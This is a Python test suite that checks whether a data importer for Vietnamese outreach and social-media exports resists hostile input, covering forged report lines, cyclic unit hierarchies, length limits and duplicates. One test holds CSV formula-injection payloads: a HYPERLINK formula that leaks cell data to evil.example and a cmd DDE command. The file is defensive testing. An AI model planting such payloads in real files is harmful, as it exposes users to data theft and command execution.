"""Hostile input, round three: nothing an attacker wrote in a file or its name forges a line of
output, survives as a formula, or gets past a limit that holds on one database but not the other."""

import io
from datetime import UTC, date, datetime

import pytest
from conftest import FIXTURES
from db_state import database_state
from typer.testing import CliRunner

from collector.cli import app
from collector.importer import ImportOptions, import_bytes
from models.errors import UserError

META_EN = FIXTURES / "meta_business_suite" / "May-01-2024_May-31-2024_posts_en.csv"
META_VI = FIXTURES / "meta_business_suite" / "May-01-2024_May-20-2024_posts_vi.csv"
ACTIVITIES = FIXTURES / "activities" / "activities_2024-05_en.csv"
FORGED = "act.csv:2: Views: FAKE LINE INJECTED"


def test_a_file_name_with_a_newline_cannot_forge_a_line_of_the_report(engine):
    bad = ACTIVITIES.read_text(encoding="utf-8").replace(",420,", ",lots,", 1).encode()
    name = "act.csv\n" + FORGED.removeprefix("act.csv") + "\r\x1b[2K.csv"
    with pytest.raises(UserError) as caught:
        import_bytes(engine, name, bad, ImportOptions(lang="en"))
    lines = str(caught.value).splitlines()
    assert not any(line.lstrip().startswith(FORGED) for line in lines)
    assert "act.csv\\n" in str(caught.value)
    assert "\x1b" not in str(caught.value) and "\r" not in str(caught.value)


def test_the_cli_shows_a_file_name_with_control_characters_escaped(db_url, tmp_path):
    path = tmp_path / ("act.csv\n" + FORGED.removeprefix("act.csv") + ".csv")
    path.write_text(ACTIVITIES.read_text(encoding="utf-8").replace(",420,", ",lots,", 1), encoding="utf-8")
    result = CliRunner().invoke(
        app, ["--db", db_url, "import", str(path)], env={"ENGAGEMENT_MONITOR_LANG": "en"}
    )
    assert result.exit_code == 1
    assert not any(line.lstrip().startswith(FORGED) for line in result.output.splitlines())
    assert "act.csv\\n" in result.output


@pytest.mark.parametrize("length", [2, 3, 5])
def test_a_unit_list_whose_parents_go_round_in_a_circle_is_refused(engine, length):
    names = [f"Xã {chr(65 + i)}" for i in range(length)]
    rows = [f"{name},Xã,{names[(i + 1) % length]}" for i, name in enumerate(names)]
    text = "Đơn vị,Cấp,Đơn vị cha\nLào Cai,Tỉnh,\n" + "\n".join(rows) + "\n"
    before = database_state(engine)
    with pytest.raises(UserError) as caught:
        import_bytes(engine, "don_vi.csv", text.encode(), ImportOptions(lang="vi"))
    assert database_state(engine) == before
    loop = " → ".join([*names, names[0]])
    assert f"don_vi.csv:3: Đơn vị cha: đơn vị Xã A nằm trong vòng lặp đơn vị cha ({loop})" in str(
        caught.value
    )


def test_a_unit_list_closing_a_circle_with_units_stored_before_is_refused(engine):
    import_bytes(engine, "a.csv", "Đơn vị,Cấp,Đơn vị cha\nXã A,Xã,Xã B\nXã B,Xã,Xã C\n".encode())
    before = database_state(engine)
    with pytest.raises(
        UserError, match=r"vòng lặp đơn vị cha cùng các đơn vị đã có \(Xã A → Xã B → Xã C → Xã A\)"
    ):
        import_bytes(
            engine, "c.csv", "unit,level,parent\nXã C,commune,Xã A\n".encode(), ImportOptions(lang="vi")
        )
    assert database_state(engine) == before


def test_a_name_or_id_too_long_for_the_database_is_a_bad_row_on_both_databases(engine):
    long_name = "Hội nghị " + "rất " * 80
    activities = ACTIVITIES.read_text(encoding="utf-8").replace(
        "Hội nghị đối thoại chính sách BHXH, BHYT tại xã Tả Van", long_name.strip(), 1
    )
    import_bytes(engine, "campaigns.csv", (FIXTURES / "campaigns_2024-05.csv").read_bytes())
    with pytest.raises(UserError) as caught:
        import_bytes(engine, "act.csv", activities.encode(), ImportOptions(lang="en"))
    assert f"act.csv:4: Activity: {len(long_name.strip())} characters long, at most 255" in str(caught.value)
    assert "Activity: empty" not in str(caught.value)

    studio = (FIXTURES / "youtube_studio" / "Table data.csv").read_text(encoding="utf-8-sig")
    first_id = studio.splitlines()[2].split(",")[0]
    with pytest.raises(UserError, match=r"Table data.csv:3: Content: 300 characters long, at most 64"):
        import_bytes(
            engine,
            "Table data.csv",
            studio.replace(first_id, "v" * 300, 1).encode(),
            ImportOptions(lang="en"),
        )


def test_an_activity_typed_in_too_long_is_refused_in_one_line_on_both_databases(engine):
    from models.activities import ActivityRecord, save_activities

    record = ActivityRecord(
        name="x" * 300, kind="other", start_day=date(2024, 5, 2), end_day=date(2024, 5, 2)
    )
    before = database_state(engine)
    with (
        engine.begin() as connection,
        pytest.raises(UserError, match="name dài 300 ký tự, tối đa 255"),
    ):
        save_activities(connection, [record], source="cli", user="test")
    assert database_state(engine) == before


def test_merged_cells_in_an_activity_workbook_count_for_every_row_they_cover(engine):
    from openpyxl import Workbook
    from sqlalchemy import select

    from models.tables import Activity, Campaign

    import_bytes(engine, "campaigns.csv", (FIXTURES / "campaigns_2024-05.csv").read_bytes())
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["BÁO CÁO HOẠT ĐỘNG TRUYỀN THÔNG THÁNG 5/2024"])
    sheet.merge_cells("A1:M1")  # a title over the whole width stays a title
    sheet.append([])
    sheet.append(
        [
            "STT",
            "Hoạt động",
            "Hình thức",
            "Từ ngày",
            "Đến ngày",
            "Đơn vị",
            "Địa điểm",
            "Số người tham dự",
            "BHXH tự nguyện",
            "BHYT",
            "Cài đặt VssID",
            "Chiến dịch",
            "Ghi chú",
        ]
    )
    campaign = "Tháng vận động triển khai BHXH toàn dân"
    sheet.append(
        [1, "Hội nghị sáng", "Hội nghị", "2024-05-09", "", "Bát Xát", "UBND xã", 120, 1, 6, 0, campaign]
    )
    sheet.append([2, "Hội nghị chiều", None, "2024-05-09", "", None, "UBND xã", 80, 0, 2, 0, None])
    for cells in ("C4:C5", "F4:F5", "L4:L5"):
        sheet.merge_cells(cells)
    buffer = io.BytesIO()
    workbook.save(buffer)

    import_bytes(engine, "hoat_dong.xlsx", buffer.getvalue(), ImportOptions(lang="en"))
    with engine.connect() as connection:
        rows = connection.execute(
            select(Activity.name, Activity.unit, Activity.kind, Campaign.name)
            .outerjoin(Campaign, Campaign.id == Activity.campaign_id)
            .order_by(Activity.name)
        ).all()
    assert [tuple(row) for row in rows] == [
        ("Hội nghị chiều", "Bát Xát", "conference", campaign),
        ("Hội nghị sáng", "Bát Xát", "conference", campaign),
    ]


def test_rejected_rows_written_for_excel_keep_no_live_formula(engine, tmp_path):
    import csv

    rows = list(csv.reader(io.StringIO(META_VI.read_text(encoding="utf-8-sig"), newline="")))
    rows[3][0] = "1.22158E+17"  # a bad id: the row is rejected and written out
    rows[3][3] = '=HYPERLINK("http://evil.example/?leak="&B2,"Mở")'
    rows[3][4] = "+cmd|' /C calc'!A0"
    rows[0][5] = "@SUM(1)"  # even a header
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    options = ImportOptions(skip_bad_rows=True, lang="en", rejects_dir=tmp_path)
    report = import_bytes(engine, META_VI.name, out.getvalue().encode("utf-8-sig"), options)
    with report.rejects_path.open(encoding="utf-8-sig", newline="") as handle:
        written = list(csv.reader(handle))
    assert written[0][2 + 5] == "'@SUM(1)"
    assert written[1][2 + 3] == '\'=HYPERLINK("http://evil.example/?leak="&B2,"Mở")'
    assert written[1][2 + 4] == "'+cmd|' /C calc'!A0"
    cells = [cell for row in written for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


STUDIO_HEADER = "Content,Video title,Video publish time,Duration,Views,Likes,Comments added,Shares\n"
ZALO_HEADER = "Article title,Publish date,Views,Shares,Likes,Comments,Link\n"
AS_OF = datetime(2024, 6, 1, 8, 0, tzinfo=UTC)


def refusal(engine, name: str, text: str) -> str:
    before = database_state(engine)
    with pytest.raises(UserError) as caught:
        import_bytes(engine, name, text.encode(), ImportOptions(lang="en", as_of=AS_OF))
    assert database_state(engine) == before
    return str(caught.value)


@pytest.mark.parametrize("written", ["0001-05-22", "May 22, 9999", "Jun 30, 2024"])
def test_youtube_studio_publish_days_out_of_range_or_after_the_export_are_bad_rows(engine, written):
    text = STUDIO_HEADER + f'clip01xxxxx,Clip,"{written}",152,820,44,9,12\n'
    message = refusal(engine, "Table data.csv", text)
    assert "Table data.csv:2: Video publish time: " in message
    assert ("the year must be between 1970 and 2100" in message) != (written == "Jun 30, 2024")
    assert "unexpected" not in message


@pytest.mark.parametrize("written", ["0001-05-02 08:30", "9999-05-02 08:30", "2024-06-02 08:30"])
def test_zalo_publish_days_out_of_range_or_after_the_export_are_bad_rows(engine, written):
    message = refusal(engine, "zalo.csv", ZALO_HEADER + f"Bài một,{written},100,1,1,1,\n")
    assert "zalo.csv:2: Publish date: " in message and "unexpected" not in message
    expected = "published after the counts were taken" if written.startswith("2024") else "between 1970"
    assert expected in message


def test_the_same_video_twice_in_a_studio_sheet_is_refused_not_half_merged(engine):
    text = STUDIO_HEADER + 'vid1xxxxxxx,First title,"May 15, 2024",152,820,44,9,12\n'
    text += 'vid1xxxxxxx,Second title,"May 15, 2024",152,9000,44,9,12\n'
    assert "Table data.csv:3: Content: video vid1xxxxxxx is already in row 2" in refusal(
        engine, "Table data.csv", text
    )


def test_two_zalo_articles_with_the_same_title_on_the_same_day_are_refused_not_merged(engine):
    text = (
        ZALO_HEADER + "Bản tin BHXH,2024-05-02 08:30,100,1,1,1,\nBản tin BHXH,2024-05-02 17:30,5000,1,1,1,\n"
    )
    message = refusal(engine, "zalo.csv", text)
    assert (
        "zalo.csv:3: Article title: an article with the same title on the same day is already in row 2"
        in message
    )


def test_an_activity_sheet_naming_a_column_twice_is_refused_naming_the_columns(engine):
    header, *rows = ACTIVITIES.read_text(encoding="utf-8").splitlines()
    twice = header.replace("Health insurance,", "Health insurance,Health insurance,").replace(
        "Activity,", "Activity,activity,"
    )
    body = [
        row.replace(",420,9,", ",420,9,900,").replace("Biểu diễn", "Biểu diễn,Biểu diễn", 1)
        for row in rows[:2]
    ]
    message = refusal(engine, "act.csv", "\n".join([twice, *body]) + "\n")
    assert message == (
        "act.csv: the header names a column twice (Activity, Health insurance); which one holds the figures "
        "would be a guess: rename or remove the extra column, then import again."
    )


def test_the_same_export_again_with_other_counts_is_refused_saying_how_to_resolve_it(engine, monkeypatch):
    import csv

    from collector.importer import import_file

    monkeypatch.setenv("ENGAGEMENT_MONITOR_LANG", "en")
    import_file(engine, META_EN)
    rows = list(csv.reader(io.StringIO(META_EN.read_text(encoding="utf-8-sig"), newline="")))
    views = rows[0].index("Views")
    for row in rows[1:]:
        row[views] = str(int(row[views]) * 10) if row[views] else row[views]
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    data = out.getvalue().encode("utf-8-sig")
    before = database_state(engine)
    with pytest.raises(UserError, match=r"items already have other counts for the same moment \(2024-05-31"):
        import_bytes(engine, META_EN.name, data, ImportOptions(lang="en"))
    assert database_state(engine) == before  # not marked imported: it can be tried again
    later = datetime(2024, 6, 2, 8, 0, tzinfo=UTC)
    report = import_bytes(engine, META_EN.name, data, ImportOptions(lang="en", as_of=later))
    assert report.new_snapshots > 0


def test_an_activity_sheet_naming_a_field_twice_in_other_words_is_refused(engine):
    header, *rows = ACTIVITIES.read_text(encoding="utf-8").splitlines()
    twice = header + ",BHYT,Số người tham dự"
    body = [row + ",900,5" for row in rows[:2]]
    message = refusal(engine, "act.csv", "\n".join([twice, *body]) + "\n")
    assert message.startswith("act.csv: the header names a column twice (Số người tham dự, BHYT);")
